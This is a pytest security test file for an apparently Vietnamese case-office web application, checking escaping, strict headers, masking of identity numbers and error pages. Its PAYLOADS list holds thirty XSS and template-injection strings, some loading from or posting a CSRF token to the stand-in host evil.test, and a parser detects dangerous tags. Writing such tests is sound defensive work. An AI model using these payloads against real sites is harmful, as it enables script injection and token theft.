"""Hostile text is shown as it was typed; headers are strict; refusals have pages of their own."""

from __future__ import annotations

import importlib
import pkgutil
import re
from html import unescape
from html.parser import HTMLParser

import pytest

import engine
from desk.errors import REFUSALS
from desk.headers import POLICY
from engine.cases.intake.refuse_case import refuse_case
from engine.cases.waiting.request_supplement import request_supplement
from engine.errors import OfficeError
from tests.visitors import ADMIN, CLERK, LEADER, SPECIALIST, DeskOffice

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><script src=//evil.test></script>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "javascript:alert(1)",
    "{{7*7}}",
    "{% import os %}",
    "{{''.__class__.__mro__}}",
    "${7*7}",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.test>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<base href=//evil.test>",
    "<form action=//evil.test><input name=csrf_token>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "\u202e<script>alert(1)</script>",
    "<style>@import '//evil.test'</style>",
    "<object data=//evil.test>",
    "<input autofocus onfocus=alert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<x hx-get=//evil.test hx-trigger=load>",
)


FETCHING = ("href", "src", "srcdoc", "action", "data", "hx-get", "hx-post", "xlink:href")
FOREIGN = ("//", "http:", "https:", "javascript:", "data:", "<")
"""Our own addresses begin with one stroke."""


class Tags(HTMLParser):
    """Collects what a browser would run or fetch."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag in ("iframe", "object", "base", "style", "embed", "animate", "math"):
            self.bad.append(tag)
        if tag == "script" and not str(given.get("src", "")).startswith("/static/dist/"):
            self.bad.append(f"script {given}")
        self.bad += [
            f"{tag} {name}={value}"
            for name, value in attrs
            if name.startswith("on")
            or (name in FETCHING and str(value).strip().lower().startswith(FOREIGN))
            or (tag == "meta" and name == "http-equiv")
        ]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def look(page: str) -> Tags:
    tags = Tags()
    tags.feed(page)
    return tags


def test_thirty_payloads_in_names_reasons_and_notes_are_shown_literally(
    quick_desk: DeskOffice,
) -> None:
    office = quick_desk.office
    everybody = [quick_desk.person(code) for code in (CLERK, SPECIALIST, LEADER)]
    assert len(PAYLOADS) == 30
    for payload in PAYLOADS:
        number = office.receive(owner=payload, data={"owner": {"address": payload}})
        office.work_until(number, "examine")
        office.do(request_supplement, number=number, reason=payload, components=["ban_ve"])
        pages = [f"/desk/cases/{number}", f"/desk/cases/{number}/withdraw"]
        pages += [
            f"/desk/cases/{number}/letters/{d['id']}" for d in office.case(number)["documents"]
        ]
        for path in pages:
            page = everybody[0].get(path).text
            seen = look(page)
            assert seen.bad == [], (payload, path)
            if "withdraw" not in path:
                assert payload in "".join(seen.text), (payload, path)
    for path in ("/desk?viec=co-quan", "/returns/register?tu=2026-11-01&den=2026-11-30", "/board"):
        for visitor in everybody:
            assert look(visitor.get(path).text).bad == []


def test_payloads_typed_into_addresses_and_forms_come_back_as_text(quick_desk: DeskOffice) -> None:
    clerk = quick_desk.person(CLERK)
    for payload in PAYLOADS:
        for answer in (
            clerk.get("/desk", query_string={"tim": payload}),
            clerk.get("/desk/receive", query_string={"tim": payload}),
            clerk.get("/desk", query_string={"loc": payload}),
            quick_desk.stranger().post("/", {"officer": payload, "password": "x"}),
            quick_desk.stranger().get("/", query_string={"next": payload}),
            clerk.get(f"/desk/cases/{payload.replace('/', '_')}"),
        ):
            assert look(answer.text).bad == [], payload


def test_a_hostile_refusal_reason_is_text_in_the_letter(quick_desk: DeskOffice) -> None:
    number = quick_desk.office.receive()
    quick_desk.office.work_until(number, "examine")
    quick_desk.office.do(refuse_case, number=number, reason=PAYLOADS[0])
    letter = quick_desk.office.case(number)["documents"][-1]["id"]
    page = quick_desk.person(LEADER).get(f"/desk/cases/{number}/letters/{letter}").text
    assert look(page).bad == []
    assert PAYLOADS[0] in unescape(page)


def test_every_answer_has_the_strict_headers(quick_desk: DeskOffice) -> None:
    clerk = quick_desk.person(CLERK)
    for path in ("/", "/desk", "/track", "/nope", "/static/paper.css", "/health"):
        headers = clerk.get(path).headers
        assert headers["Content-Security-Policy"] == POLICY
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["X-Frame-Options"] == "DENY"
    assert "unsafe" not in POLICY
    assert clerk.get("/desk").headers["Cache-Control"] == "no-store"


def test_no_page_has_inline_script_or_style(quick_desk: DeskOffice) -> None:
    number = quick_desk.office.receive()
    page = "/desk/receive?thu-tuc=1.009994"
    for code, paths in {
        CLERK: ("/desk", "/desk/receive", page, f"/desk/cases/{number}", "/returns"),
        LEADER: ("/board",),
        ADMIN: ("/admin", "/admin/calendar"),
    }.items():  # fmt: skip
        for path in paths:
            shown = quick_desk.person(code).get(path).text
            assert not re.search(r"<script(?![^>]*src=)|\sstyle=|<style", shown), path


def test_no_page_of_a_list_shows_a_whole_identity_number(quick_desk: DeskOffice) -> None:
    identity = "014090005678"
    number = quick_desk.office.receive(data={"owner": {"id_number": identity}})
    clerk = quick_desk.person(CLERK)
    for path in ("/desk?viec=co-quan", f"/desk/cases/{number}", "/returns/register?tu=2026-11-01"):
        page = clerk.get(path).text
        assert identity not in page, path
        # Twelve digits that stand alone; a form's random token may hold as many among its letters.
        assert not re.search(r"(?<![\w.-])\d{12}(?![\w.-])", page), path


def test_every_refusal_of_the_office_has_a_status_and_a_sentence() -> None:
    for module in pkgutil.walk_packages(engine.__path__, "engine."):
        if "revisions" not in module.name and not module.name.endswith(".env"):
            importlib.import_module(module.name)
    codes = {kind.code for kind in _family(OfficeError)}
    assert codes - set(REFUSALS) == set()
    assert all(400 <= status < 600 and str(words) for status, words in REFUSALS.values())


def test_a_fault_gives_a_page_with_a_number_and_keeps_nothing(
    quick_desk: DeskOffice, monkeypatch: pytest.MonkeyPatch
) -> None:
    number = quick_desk.office.receive()
    before = quick_desk.office.events(number)

    def broken(*_: object, **__: object) -> None:
        raise RuntimeError("secret detail of the machine")

    monkeypatch.setattr("engine.cases.claim_step.confirm", broken)
    step = quick_desk.next_step(number)
    answer = quick_desk.person(CLERK).post(f"/desk/cases/{number}/steps/{step}/claim")
    assert answer.status_code == 500
    assert re.search(r"Mã sự cố: <strong>[0-9a-f]{8}</strong>", answer.text)
    assert "secret detail" not in answer.text
    assert "Traceback" not in answer.text
    assert quick_desk.office.events(number) == before


def test_a_page_that_does_not_exist_is_our_own_page(quick_desk: DeskOffice) -> None:
    answer = quick_desk.stranger().get("/khong-co")
    assert answer.status_code == 404
    assert "Không tìm thấy" in answer.text


def _family(kind: type[OfficeError]) -> set[type[OfficeError]]:
    found = {kind}
    for each in kind.__subclasses__():
        found |= _family(each)
    return {k for k in found if k.__module__.startswith(("engine.", "desk."))}
